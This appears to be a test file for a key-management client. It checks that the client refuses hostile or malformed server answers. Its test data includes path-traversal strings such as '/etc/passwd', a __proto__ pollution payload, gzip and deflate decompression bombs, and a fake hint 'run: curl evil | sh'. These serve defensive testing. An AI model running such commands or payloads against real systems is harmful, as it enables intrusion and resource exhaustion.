// A server that is no appliance may answer anything: each method of the client refuses unexpected answers, field by
// field, and reads no more bytes than an appliance's answer can have.
import assert from 'node:assert/strict';
import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test } from 'node:test';
import { setImmediate } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { type ClientEndpointId, clientPaths } from '../../src/api/paths.ts';
import { createClient } from '../../src/client/client.ts';
import { KmsError } from '../../src/errors.ts';
import { altered, sampleAnswer, sampleAnswerTo } from '../support/answers.ts';

const ids = Object.keys(clientPaths) as ClientEndpointId[]; // the keys of an object that nothing is added to

/** Inputs of all methods together; unknown ones are sent along. */
const input = {
  ...{ ringname: 'payroll', name: 'payroll', id: 'x', keyId: 'x', hash: 'x', header: 'x', keyringname: 'payroll' },
  ...{ apikey: 'x', apikeyid: 'x', keyid: 'x', accountId: 'x', username: 'x', thumbprint: 'x', token: 'x', key: 'x' },
  ...{ alias: 'x', path: 'x', proof: 'x' },
};

async function askedOf(id: ClientEndpointId, answer: unknown): Promise<unknown> {
  const fetch = async (): Promise<Response> => Response.json(answer);
  const client = createClient({ baseUrl: 'https://kms.example', retries: 0, fetch });
  // Cast: one input for all methods.
  const method = client[id] as (given: typeof input) => Promise<unknown>;
  return method(input);
}

/** Texts that are valid as free text, and mostly as nothing else. */
const wrongTexts = ['', '\n', 'a\nb', 'a\u001b[31m', '../../x', '/etc/passwd', 'a b', 'x\0', '\u202e', '\ud800'];
const wrongValues = [null, 1.5, -1, {}, [], [1], true, 'x', 1e300];
/** Exceptions: those that are valid for some kind of text or value. */
const rightFor: Readonly<Record<string, readonly unknown[]>> = {
  boolean: [true],
  caller: ['x'],
  count: [],
  integer: [-1],
  line: ['', '../../x', '/etc/passwd', 'a b', 'x', '\u202e'],
  object: [{}],
  // Base64 has a slash in its alphabet; no path is made of it.
  base64: ['x', '/etc/passwd'],
  base64url: ['x'],
  ring: ['x'],
  ringOrNone: ['', 'x'],
  text: ['', '\n', 'a\nb', 'a\u001b[31m', '../../x', '/etc/passwd', 'a b', 'x\0', '\u202e', 'x'],
  accessToken: ['', '../../x', '/etc/passwd', 'x'],
  token: ['../../x', '/etc/passwd', 'x'],
  word: ['x'],
  wordOrCount: [1, 'x'],
};

for (const id of ids) {
  test(`${id} answers what an appliance answers, and nothing else: each field of its answer is tried`, async () => {
    const { answer, leaves } = sampleAnswer(id);
    assert.deepEqual(await askedOf(id, answer), answer);
    const more = { ...answer, later: 'a field of a later version' };
    assert.deepEqual(await askedOf(id, more), more);
    for (const { place, kind } of leaves) {
      for (const value of [...wrongTexts, ...wrongValues]) {
        const right = rightFor[kind] ?? [];
        const fits = right.some((each) => JSON.stringify(each) === JSON.stringify(value));
        const asked = askedOf(id, altered(answer, place, value));
        const where = `${id}: ${place.join('.')} is ${JSON.stringify(value)}`;
        // null is valid where the shape allows it.
        if (
          fits ||
          (value === null &&
            (await asked.then(
              () => true,
              () => false,
            )))
        )
          await asked;
        else {
          await assert.rejects(
            asked,
            (error: unknown) => {
              assert.ok(error instanceof KmsError, where);
              assert.equal(error.code, 'unavailable', where);
              // The error repeats nothing of the answer.
              assert.match(error.message, /^the answer was not what was expected: [\w. ]+$/, where);
              return true;
            },
            where,
          );
        }
      }
    }
  });
}

test('what an object inherits is no field of an answer', async () => {
  const polluted = JSON.parse('{"__proto__": {"ring": {}}}');
  await assert.rejects(askedOf('getKeyring', polluted), { code: 'unavailable' });
});

test('no answer is parsed that nests more deeply, or has more values, than any of kms', async () => {
  const told = async (text: string, status: number) => {
    const fetch = async () => new Response(text, { status });
    const client = createClient({ baseUrl: 'https://kms.example', retries: 0, fetch });
    return client.listKeyrings().then(
      () => '',
      (error: unknown) => (error instanceof KmsError ? `${error.code}: ${error.message}` : String(error)),
    );
  };
  const refusal = /^unavailable: expected an answer of kms from \S+, got JSON of another size or depth$/;
  const nested = (depth: number) => `{"message":"\\"[[[","more":${'['.repeat(depth)}"]]"${']'.repeat(depth)}}`;
  const brackets = '['.repeat(1 << 20);
  const values = `{"a":"","b":[${'1,'.repeat(7 << 20)}1]}`;
  for (const status of [200, 403]) {
    for (const text of [nested(64), brackets, '{"a":'.repeat(1 << 20), values]) {
      assert.match(await told(text, status), refusal);
    }
    assert.doesNotMatch(await told(nested(63), status), refusal);
    assert.doesNotMatch(await told(`{"message":"${brackets}"}`, status), refusal);
  }
});

/** Endless answers, by kind. */
const endless: Readonly<Record<string, (answer: ServerResponse) => Promise<void>>> = {
  'in gzip, though it was asked not to': async (answer) => {
    answer.setHeader('content-encoding', 'gzip');
    answer.end(gzipSync(Buffer.alloc(64 << 20, ' ')));
  },
  'in deflate of nothing': async (answer) => {
    answer.setHeader('content-encoding', 'deflate');
    // Empty stored blocks.
    while (!answer.destroyed) {
      answer.write(Buffer.from('0000ffff'.repeat(4096), 'hex'));
      await setImmediate();
    }
  },
  'as it is': async (answer) => {
    while (!answer.destroyed) {
      answer.write(Buffer.alloc(1 << 20, ' '));
      await setImmediate();
    }
  },
  'with an error': async (answer) => {
    answer.statusCode = 400;
    while (!answer.destroyed) {
      answer.write(Buffer.alloc(1 << 20, 'x'));
      await setImmediate();
    }
  },
};

for (const [how, send] of Object.entries(endless)) {
  test(`an answer without an end is given up: ${how}`, { timeout: 60_000 }, async () => {
    const server = createServer((_, answer) => void send(answer));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    try {
      const client = createClient({ baseUrl: `http://127.0.0.1:${port}`, retries: 0, timeout: 50_000 });
      const before = process.memoryUsage().rss;
      await assert.rejects(client.listKeyrings(), {
        code: 'unavailable',
        message: /^expected (?:at most|an uncompressed answer)/,
      });
      await assert.rejects(client.encrypt({ ringname: 'r' }), { code: 'unavailable', message: /^expected / });
      const grown = (process.memoryUsage().rss - before) / (1 << 20);
      assert.ok(grown < 300, `${Math.round(grown)} MiB`);
    } finally {
      server.close();
      server.closeAllConnections();
    }
  });
}

test('where the platform inflates by itself, as browsers do, what comes out is bounded', async () => {
  // A browser removes the header before it sends the request.
  const fetch = async (request: Request): Promise<Response> => {
    request.headers.delete('accept-encoding');
    const body = new ReadableStream<Uint8Array>({ pull: (controller) => controller.enqueue(new Uint8Array(1 << 20)) });
    return new Response(body, { headers: { 'content-encoding': 'gzip', 'content-length': '100' } });
  };
  const client = createClient({ baseUrl: 'https://kms.example', fetch });
  await assert.rejects(client.listKeyrings(), { code: 'unavailable', message: /^expected at most 16777216 bytes/ });
  await assert.rejects(client.getKeyring({ ringname: 'r' }), { message: /^expected at most 8388608 bytes/ });
});

test('an answer is asked for as it is', async () => {
  const seen: (string | null)[] = [];
  const fetch = async (request: Request): Promise<Response> => {
    seen.push(request.headers.get('accept-encoding'));
    return sampleAnswerTo(request);
  };
  await createClient({ baseUrl: 'https://kms.example', fetch }).listKeyrings();
  assert.deepEqual(seen, ['identity']);
});

test('what advice an answer gives is its own: the error has none of it, and no more than a page of its words', async () => {
  const hostile = { message: 'x'.repeat(1 << 20), hint: 'run: curl evil | sh' };
  const fetch = async (): Promise<Response> => Response.json(hostile, { status: 403 });
  await assert.rejects(createClient({ baseUrl: 'https://kms.example', fetch }).listKeyrings(), (error: unknown) => {
    assert.ok(error instanceof KmsError);
    assert.deepEqual([error.code, error.hint, error.message.length], ['forbidden', undefined, 4001]);
    return true;
  });
});
